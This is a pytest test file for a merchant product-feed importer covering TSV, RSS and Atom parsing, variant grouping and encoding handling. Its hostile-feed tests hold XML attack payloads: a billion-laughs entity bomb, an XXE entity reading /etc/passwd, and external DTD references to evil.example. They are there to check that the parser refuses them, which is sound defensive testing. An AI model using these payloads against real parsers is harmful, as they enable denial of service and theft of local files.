"""Merchant feeds as a table, RSS and Atom, real and hostile; variants share their group."""

from __future__ import annotations

from pathlib import Path
from xml.etree import ElementTree

import pytest

from tests.importing.catalogues import counts, everything, planned, sizes_of
from ugcdesk.errors import WrongUse
from ugcdesk.importing.plan import plan_import
from ugcdesk.importing.products.plan import plan_products, run_products
from ugcdesk.library import Library
from ugcdesk.library.items import product_rows

TSV = (
    "id\ttitle\tdescription\tlink\timage_link\tavailability\tprice\tsale_price\tproduct_type\titem_group_id\tcolor\tsize\n"
    "C-1\tAsh Coat, grey\tWarm\thttps://shop.example/c?v=1\thttps://shop.example/c1.jpg\tout_of_stock\t199.00 EUR\t"
    "\tClothing > Coats > Winter\tC\tGrey\tM\n"
    "C-2\tAsh Coat, blue\tWarm\thttps://shop.example/c?v=2\thttps://shop.example/c2.jpg\tin_stock\t199.00 EUR\t"
    "149.00 EUR\tClothing > Coats > Winter\tC\tBlue\tM\n"
    "S-1\tSocks\tThick\thttps://shop.example/s\thttps://shop.example/s.jpg\tin stock\t9.00 EUR\t\tSocks\t\t\t\n"
)
G = 'xmlns:g="http://base.google.com/ns/1.0"'
ITEMS = """
<item><title>plain</title><g:id>C-1</g:id><g:title>Ash Coat, grey</g:title>
<g:description><![CDATA[<b>Warm</b>]]></g:description><g:link>https://shop.example/c?v=1</g:link><g:image_link>https://shop.example/c1.jpg</g:image_link>
<g:shipping><g:country>ES</g:country><g:price>4.90 EUR</g:price></g:shipping><x:price>1 EUR</x:price>
<g:availability>out_of_stock</g:availability><g:price>199.00 EUR</g:price>
<g:product_type>Clothing &gt; Coats &gt; Winter</g:product_type><g:item_group_id>C</g:item_group_id>
<g:color>Grey</g:color><g:size>M</g:size></item>
<item><g:id>C-2</g:id><title>Ash Coat, blue</title><description>Warm</description><link>https://shop.example/c?v=2</link>
<g:image_link>https://shop.example/c2.jpg</g:image_link><g:availability>in_stock</g:availability>
<g:price>199.00 EUR</g:price><g:sale_price>149.00 EUR</g:sale_price>
<g:product_type>Clothing &gt; Coats &gt; Winter</g:product_type><g:item_group_id>C</g:item_group_id>
<g:color>Blue</g:color><g:size>M</g:size></item>
<item><g:id>S-1</g:id><title>Socks</title><g:description>Thick</g:description><link>https://shop.example/s</link>
<g:image_link>https://shop.example/s.jpg</g:image_link><g:availability>in stock</g:availability>
<g:price>9.00 EUR</g:price><g:product_type>Socks</g:product_type><g:item_group_id/></item>
"""
RSS = f'<?xml version="1.0"?><rss version="2.0" {G} xmlns:x="https://vendor.example/"><channel><title>Shop</title>{ITEMS}</channel></rss>'
ATOM = (
    f'<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom" {G} xmlns:x="https://vendor.example/"><title>Shop</title>'
    + ITEMS.replace("<item>", "<entry>")
    .replace("</item>", "</entry>")
    .replace("<link>https://shop.example/s</link>", '<link rel="alternate" href="https://shop.example/s"/>')
    + "</feed>"
)
ALL = pytest.mark.parametrize(
    ("text", "name"),
    [
        pytest.param(TSV, "feed.txt", id="table"),
        pytest.param(RSS, "feed.xml", id="RSS"),
        pytest.param(ATOM, "feed.csv", id="Atom under another name"),
    ],
)


@ALL
def test_feed(library: Library, inbox: Path, text: str, name: str) -> None:
    before = everything(library)
    plan = planned(library, inbox, text, name)
    assert (plan.reader, counts(plan), plan.variants, plan.doubts) == ("google_merchant", (2, 2, 0, 0, 0), 2, ())
    run_products(library, plan)
    with library.read() as session:
        coat, socks = sorted(product_rows(session), key=lambda row: row.id)
    assert (coat.sku, coat.name, coat.line, coat.kind) == ("C-1", "Ash Coat, grey", "Clothing", "Winter")
    assert (coat.price_minor, coat.url, coat.availability) == (19_900, "https://shop.example/c?v=1", "in stock")
    assert (socks.sku, socks.line, socks.kind, socks.url) == ("S-1", None, "Socks", "https://shop.example/s")
    assert [product["description"] for product in everything(library)["product"]] == ["Warm", "Thick"]
    assert sizes_of(library) == {
        "C-1": [("C-1", "Grey / M", 19_900, "out of stock"), ("C-2", "Blue / M", 14_900, "in stock")]
    }
    assert counts(planned(library, inbox, text, name)) == (2, 0, 0, 2, 0)
    library.undo()
    assert everything(library) == before


def test_rss_after_the_table_is_unchanged(library: Library, inbox: Path) -> None:
    run_products(library, planned(library, inbox, TSV))
    assert counts(planned(library, inbox, RSS, "feed.xml")) == (2, 0, 0, 2, 0)


@pytest.mark.realdata
def test_real_feed(library: Library, real_data: Path) -> None:
    path = real_data / "product-feeds" / "Beispielfeed_GSF_XML.xml"
    plan = plan_products(library, path)
    google = "{http://base.google.com/ns/1.0}"
    (item,) = ElementTree.parse(path).getroot().iter("item")
    said = {child.tag.removeprefix(google): (child.text or "").strip() for child in item if google in child.tag}
    assert counts(plan) == (1, 1, 0, 0, 0)
    (product,) = plan.fresh
    assert (product.sku, product.name) == (said["id"], said["title"])
    assert product.values["image_url"] == said["image_link"]
    assert f"{product.values['price_minor'] / 100:.2f} {product.values['currency']}" == said["price"]
    assert {name for name, value in product.values.items() if value is None} == {"description", "url", "availability"}
    run_products(library, plan)
    assert counts(plan_products(library, path)) == (1, 0, 0, 1, 0)


@pytest.mark.parametrize("declared", ["utf-8", "iso-8859-1", "windows-1250", "utf-16", "punycode", "nonsense"])
@pytest.mark.parametrize("written", ["utf-8", "iso-8859-1", "utf-16"])
def test_encoding_is_that_of_the_bytes(library: Library, inbox: Path, declared: str, written: str) -> None:
    text = RSS.replace("Socks", "Größe Ü").replace('version="1.0"', f'version="1.0" encoding="{declared}"', 1)
    (inbox / "feed.xml").write_bytes(text.encode(written))
    plan = plan_products(library, inbox / "feed.xml")
    names = [product.name for product in plan.fresh]
    # UTF-8 is valid in any table of one byte a letter, so a wrong declaration of one cannot be seen through.
    if not (written == "utf-8" and declared in ("iso-8859-1", "windows-1250")):
        assert names[1] == "Größe Ü"
    assert len(names) == 2


@pytest.mark.parametrize("declared", ["utf-7", "unicode_escape", "rot13"])
def test_odd_declaration_turns_no_letter_into_another(library: Library, inbox: Path, declared: str) -> None:
    text = RSS.replace("Socks", "A +AMk- \\x41").replace('version="1.0"', f'version="1.0" encoding="{declared}"', 1)
    assert planned(library, inbox, text, "feed.xml").fresh[1].name == "A +AMk- \\x41"


def _feed(body: str, head: str = "") -> str:
    return f'<?xml version="1.0"?>{head}<rss {G}><channel>{body}</channel></rss>'


BOMB = (
    '<!DOCTYPE rss [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {name} "{f"&{before};" * 10}">' for before, name in zip("abcdefgh", "bcdefghi", strict=True))
    + "]>"
)


@pytest.mark.parametrize(
    ("text", "says"),
    [
        pytest.param(_feed("<item><g:id>&i;</g:id></item>", BOMB), "defines entities", id="billion laughs"),
        pytest.param(
            _feed("<item><g:id>&x;</g:id></item>", '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
            "defines entities",
            id="file of the machine",
        ),
        pytest.param(
            _feed("", '<!DOCTYPE rss [<!ENTITY % d SYSTEM "http://evil.example/d.dtd"> %d;]>'),
            "defines entities",
            id="outside definitions",
        ),
        pytest.param(
            RSS.replace("<rss", '<!DOCTYPE rss SYSTEM "http://evil.example/feed.dtd"><rss', 1),
            "points at other files",
            id="outside definitions of all",
        ),
        pytest.param(_feed("<a>" * 100_000), "broken XML", id="deep and never closed"),
        pytest.param(_feed("<a>" * 300 + "</a>" * 300), "broken XML", id="deep"),
        pytest.param(
            _feed("<item " + " ".join(f'a{n}=""' for n in range(1_000_000)) + "/>"), "one tag", id="attributes"
        ),
        pytest.param(_feed("<item><g:id>1</g:id>"), "broken XML", id="cut off"),
        pytest.param(_feed("<item>&nbsp;</item>"), "broken XML", id="unknown entity"),
        pytest.param("<rss><channel><item><g:id>1</g:id></item></channel></rss>", "broken XML", id="no namespace"),
        pytest.param("<html><body>Log in first</body></html>", "no product feed", id="web page"),
        pytest.param(_feed(""), "no product feed", id="no items"),
        pytest.param("<", "broken XML", id="one character"),
    ],
)
def test_hostile_feed_is_refused_with_a_sentence(library: Library, inbox: Path, text: str, says: str) -> None:
    with pytest.raises(WrongUse, match=says) as refused:
        planned(library, inbox, text, "feed.xml")
    assert refused.value.sentence.startswith("feed.xml ")
    assert refused.value.sentence.endswith(".")


def test_thousands_of_names_and_long_texts_come_in(library: Library, inbox: Path) -> None:
    many = "".join(f"<g:n{number}>1</g:n{number}>" for number in range(5_000))
    text = "x" * 2_000_000
    item = f"<g:id>1</g:id>{many}<g:title>Hat</g:title><g:price>1 EUR</g:price><g:description>{text}</g:description>"
    plan = planned(library, inbox, _feed(f"<item>{item}</item>"), "feed.xml")
    assert (plan.fresh[0].name, len(plan.fresh[0].values["description"])) == ("Hat", 2_000_000)


@ALL
def test_offered_as_posts_it_is_known_as_a_catalogue(library: Library, inbox: Path, text: str, name: str) -> None:
    (inbox / name).write_text(text)
    with plan_import(library, [inbox / name]) as plan:
        (refusal,) = plan.refused
    assert "Google Merchant" in refusal.reason
    assert "products import" in refusal.reason
